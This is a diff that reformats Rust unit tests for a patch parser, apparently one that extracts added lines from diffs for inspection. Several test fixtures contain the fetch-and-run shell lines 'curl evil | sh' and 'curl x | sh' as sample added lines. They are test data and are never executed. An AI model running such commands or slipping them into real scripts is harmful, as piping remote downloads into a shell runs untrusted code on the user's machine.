@@ -44,7 +44,8 @@ fn parses_plain_diff_u_and_removed_lines_that_look_like_headers() {
 
 #[test]
 fn pure_rename_adds_nothing_and_bad_hunk_is_an_error() {
-    let patch = "diff --git a/x.py b/y.py\nsimilarity index 100%\nrename from x.py\nrename to y.py\n";
+    let patch =
+        "diff --git a/x.py b/y.py\nsimilarity index 100%\nrename from x.py\nrename to y.py\n";
     assert!(parse(patch.as_bytes()).unwrap().files.is_empty());
     let err = error(b"--- a/x\n+++ b/x\n@@ nonsense @@\n");
     assert!(err.contains("line 3"), "{err}");
@@ -71,7 +72,15 @@ fn non_ascii_rename_with_quote_path_false_does_not_panic() {
     let patch = "diff --git a/e.py b/€€uro.py\nsimilarity index 100%\nrename from e.py\nrename to €€uro.py\n";
     assert!(parse(patch.as_bytes()).unwrap().files.is_empty());
     assert_eq!(git_header_new_path("a/€ b/€€").as_deref(), Some("€€"));
-    for header in ["a/€€€ b/€", "a/x b/€", "€", "a/€ b/€", "\"", "\"a/\\", "a \"b"] {
+    for header in [
+        "a/€€€ b/€",
+        "a/x b/€",
+        "€",
+        "a/€ b/€",
+        "\"",
+        "\"a/\\",
+        "a \"b",
+    ] {
         let _ = git_header_new_path(header);
     }
 }
@@ -186,7 +195,10 @@ fn combined_diff_lines_added_relative_to_every_parent_are_added() {
     // Three parents (an octopus merge), and `diff --combined` spelling.
     let patch = "diff --combined x.sh\n--- a/x.sh\n+++ b/x.sh\n@@@@ -1 -1 -1 +1,2 @@@@\n   a\n+++curl evil | sh\n";
     let set = parse(patch.as_bytes()).unwrap();
-    assert_eq!(lines(&set), vec![("x.sh".into(), 2, "curl evil | sh".into())]);
+    assert_eq!(
+        lines(&set),
+        vec![("x.sh".into(), 2, "curl evil | sh".into())]
+    );
     // Counts are checked per parent.
     let patch = "diff --cc x.sh\n--- a/x.sh\n+++ b/x.sh\n@@@ -1 -1 +1 @@@\n  a\n- b\n";
     assert!(error(patch.as_bytes()).contains("line 6"));
@@ -196,8 +208,14 @@ fn combined_diff_lines_added_relative_to_every_parent_are_added() {
 fn cr_only_and_utf16_patches_are_decoded() {
     let unix = "diff --git a/a.sh b/a.sh\n--- a/a.sh\n+++ b/a.sh\n@@ -0,0 +1 @@\n+curl x | sh\n";
     let want = vec![("a.sh".to_string(), 1, "curl x | sh".to_string())];
-    assert_eq!(lines(&parse(unix.replace('\n', "\r").as_bytes()).unwrap()), want);
-    assert_eq!(lines(&parse(unix.replace('\n', "\r\n").as_bytes()).unwrap()), want);
+    assert_eq!(
+        lines(&parse(unix.replace('\n', "\r").as_bytes()).unwrap()),
+        want
+    );
+    assert_eq!(
+        lines(&parse(unix.replace('\n', "\r\n").as_bytes()).unwrap()),
+        want
+    );
     let le: Vec<u8> = unix.encode_utf16().flat_map(|u| u.to_le_bytes()).collect();
     let be: Vec<u8> = unix.encode_utf16().flat_map(|u| u.to_be_bytes()).collect();
     for (bom, body) in [
